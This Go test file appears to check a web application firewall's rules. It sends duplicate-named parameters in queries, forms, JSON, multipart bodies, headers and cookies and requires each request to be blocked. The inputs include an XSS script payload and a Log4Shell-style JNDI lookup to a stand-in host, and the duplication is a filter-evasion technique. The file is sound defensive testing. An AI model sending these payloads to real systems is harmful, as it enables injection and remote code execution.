package rules_test

import (
	"strings"
	"testing"
)

// One of two values of the same name must not hide behind the other, whatever the order in which rules walk them.
func TestEqualNames(t *testing.T) {
	attack, js := "%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>"
	many := strings.Repeat("&k=v&l=w", 5)
	for name, ask := range map[string]func() outcome{
		"query": func() outcome { return run(keep, get("/?q=harmless&a=1&b=2&q="+attack+"&c=3"+many), "") },
		"form":  func() outcome { return run(keep, post("/", form), "q=harmless&a=1&b=2&q="+attack+"&c=3"+many) },
		"json": func() outcome {
			return run(keep, post("/", "application/json"), `{"q":"harmless","a":1,"b":2,"q":"`+js+`","c":3,"d":4}`)
		},
		"multipart": func() outcome {
			return run(keep, post("/", multipart), strings.ReplaceAll(part(`name="q"`, "harmless"), "--bnd--\r\n", "")+strings.ReplaceAll(part(`name="a"`, "1"), "--bnd--\r\n", "")+part(`name="q"`, js))
		},
		"fields": func() outcome {
			return run(keep, get("/", "X-A", "harmless", "X-A", "${jndi:ldap://x.test/a}", "X-B", "1", "X-C", "2"), "")
		},
		"cookies": func() outcome { return run(keep, get("/", "Cookie", "q=harmless; a=1; b=2; q="+js+"; c=3; d=4"), "") },
	} {
		passed := 0
		for range 30 {
			if o := ask(); o.answer == nil {
				passed++
			}
		}
		if passed > 0 {
			t.Errorf("%s: %d of 30 passed", name, passed)
		}
	}
}
